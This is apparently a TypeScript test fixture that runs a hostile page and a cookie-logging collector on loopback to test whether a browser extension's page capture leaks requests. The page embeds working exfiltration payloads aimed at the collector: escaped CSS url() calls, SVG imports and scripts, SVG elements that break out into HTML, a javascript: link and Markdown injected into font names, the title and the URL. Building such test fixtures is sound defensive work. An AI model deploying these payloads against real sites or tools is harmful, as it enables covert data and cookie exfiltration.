/**
 * A hostile page and a collector, both on loopback, for the capture attacks a hostile page tries: the page
 * (on 127.0.0.1) hides remote loads in its SVG, its CSS and an SVG file, names 250 cross-site
 * images, and puts Markdown into its font family and URL; the collector (on localhost, another
 * site) logs every request it gets with its Cookie header and the fetch metadata that tells the
 * extension's fetches (`sec-fetch-dest: empty`) from the page's own loads.
 */
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';

export interface CollectedRequest {
  path: string;
  cookie: string | null;
  dest: string | null;
}

export interface HostileServers {
  /** The hostile site, e.g. `http://127.0.0.1:1234`. */
  site: string;
  /** The collector, a different site: `http://localhost:5678`. */
  collector: string;
  /** The hostile page's URL (its query carries Markdown too). */
  pageUrl: string;
  /** Every request the collector got, in order. */
  collected: CollectedRequest[];
  /** Requests the hostile site got for its own image, with their cookies. */
  ownImage: CollectedRequest[];
  close(): Promise<void>;
}

/** Number of distinct cross-site images the page names (more than the per-capture cap). */
export const MANY_IMAGES = 250;

const PNG_1X1 = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==',
  'base64',
);
const FONT_FILE = '/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf';

/** A CSS string that spells `url` in upper case with escapes, the way a hostile page smuggled it. */
const escapedUrl = (collector: string, name: string) =>
  `URL(ht\\74p:\\2f\\2f ${collector.slice('http://'.length)}/${name})`;

function fileSvg(collector: string): string {
  return `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">
  <style>@import url(${collector}/file-style-import); rect { fill: url(${collector}/file-style-fill) }</style>
  <image href="${collector}/file-image" width="5" height="5"/>
  <image xlink:href="${collector}/file-xlink-image" width="5" height="5"/>
  <rect width="20" height="20" fill="#3a6" style="stroke: ${escapedUrl(collector, 'file-style-attr')}"/>
  <foreignObject width="20" height="20"><img xmlns="http://www.w3.org/1999/xhtml" src="${collector}/file-fo-img"/></foreignObject>
  <script>fetch('${collector}/file-script')</script>
</svg>`;
}

function hostilePage(collector: string): string {
  const family = `Evil](${collector}/md-font) ![f](${collector}/md-font-img) <img src=${collector}/md-font-html>`;
  const many = Array.from(
    { length: MANY_IMAGES },
    (_, i) => `<i class="m" style="background-image: url('${collector}/many-${i}.png')"></i>`,
  ).join('');
  return `<!doctype html>
<html><head><meta charset="utf-8"><title>Hostile ![t](${collector}/md-title)</title>
<style>
@font-face { font-family: "${family}"; src: url("/font.ttf") format("truetype"); }
@font-face { font-family: "Plain Face"; src: url("/plain.ttf") format("truetype"); }
.plain { font-family: "Plain Face"; }
:root { --evil: ${escapedUrl(collector, 'css-escaped')}; }
body { margin: 0; }
#area { width: 640px; padding: 8px; font-family: "${family}", sans-serif; background: #fff; }
.css-attack { width: 120px; height: 40px; background-color: #ddd; }
.css-attack:hover { background-image: var(--evil); }
.m { display: inline-block; width: 2px; height: 2px; }
</style></head>
<body>
<div id="area">
  <p>Hostile text in the evil family</p>
  <p class="plain">Plain text in a plain web font</p>
  <svg id="s1" width="40" height="40" viewBox="0 0 40 40"><rect a"b="1" width="10" height="10" fill="red"/><style>@import url(${collector}/svg-style-import);</style><image href="${collector}/svg-image.png" width="10" height="10"/><rect x="20" width="10" height="10" fill="blue"/></svg>
  <svg id="s2" width="40" height="40" viewBox="0 0 40 40"><circle cx="20" cy="20" r="10" fill="green"/></svg>
  <img id="file-svg" src="/evil.svg" width="20" height="20" alt="">
  <img id="own" src="/own.png" width="4" height="4" alt="">
  <div class="css-attack">hover me</div>
  <div class="many">${many}</div>
</div>
<script>
  const NS = 'http://www.w3.org/2000/svg';
  const s2 = document.getElementById('s2');
  const add = (name, attrs, text) => {
    const el = document.createElementNS(NS, name);
    for (const [k, v] of Object.entries(attrs)) el.setAttribute(k, v);
    if (text) el.textContent = text;
    s2.append(el);
  };
  // SVG-namespace elements whose names are HTML elements: in an HTML document they break out.
  add('img', { srcset: '${collector}/svg-img-srcset 1x', src: '${collector}/svg-img-src' });
  add('meta', { 'http-equiv': 'refresh', content: '0;url=${collector}/svg-meta-refresh' });
  add('style', {}, '@import url(${collector}/svg-style-2);');
  add('rect', { width: '5', height: '5', style: 'fill: ${escapedUrl(collector, 'svg-style-attr')}' });
  add('a', { href: 'javascript:fetch("${collector}/svg-js")' });
</script>
</body></html>`;
}

async function listen(server: http.Server, host: string): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  return (server.address() as AddressInfo).port;
}

const requestOf = (req: http.IncomingMessage): CollectedRequest => ({
  path: req.url ?? '',
  cookie: req.headers.cookie ?? null,
  dest: (req.headers['sec-fetch-dest'] as string | undefined) ?? null,
});

export async function startHostileServers(): Promise<HostileServers> {
  const collected: CollectedRequest[] = [];
  const ownImage: CollectedRequest[] = [];
  const collectorServer = http.createServer((req, res) => {
    collected.push(requestOf(req));
    if (req.url === '/set-cookie') {
      res.writeHead(200, {
        'content-type': 'text/html',
        'set-cookie': 'collector_secret=hunter2; Path=/; SameSite=Strict',
      });
      res.end('<!doctype html><title>cookie set</title>');
      return;
    }
    res.writeHead(200, { 'content-type': 'image/png', 'cache-control': 'no-store' });
    res.end(PNG_1X1);
  });
  const collectorPort = await listen(collectorServer, '127.0.0.1');
  const collector = `http://localhost:${collectorPort}`;
  const siteServer = http.createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    if (url.pathname === '/hostile.html') {
      res.writeHead(200, {
        'content-type': 'text/html; charset=utf-8',
        'set-cookie': 'own_session=site-cookie; Path=/; SameSite=Strict',
      });
      res.end(hostilePage(collector));
    } else if (url.pathname === '/evil.svg') {
      res.writeHead(200, { 'content-type': 'image/svg+xml' });
      res.end(fileSvg(collector));
    } else if (url.pathname === '/own.png') {
      ownImage.push(requestOf(req));
      res.writeHead(200, { 'content-type': 'image/png', 'cache-control': 'no-store' });
      res.end(PNG_1X1);
    } else if (url.pathname === '/font.ttf' || url.pathname === '/plain.ttf') {
      res.writeHead(200, { 'content-type': 'font/ttf' });
      res.end(fs.readFileSync(FONT_FILE));
    } else {
      res.writeHead(404);
      res.end();
    }
  });
  const sitePort = await listen(siteServer, '127.0.0.1');
  const site = `http://127.0.0.1:${sitePort}`;
  const close = (s: http.Server) =>
    new Promise<void>((resolve) => {
      s.closeAllConnections();
      s.close(() => resolve());
    });
  return {
    site,
    collector,
    pageUrl: `${site}/hostile.html?from=](${collector}/md-url)`,
    collected,
    ownImage,
    close: () => Promise.all([close(collectorServer), close(siteServer)]).then(() => undefined),
  };
}
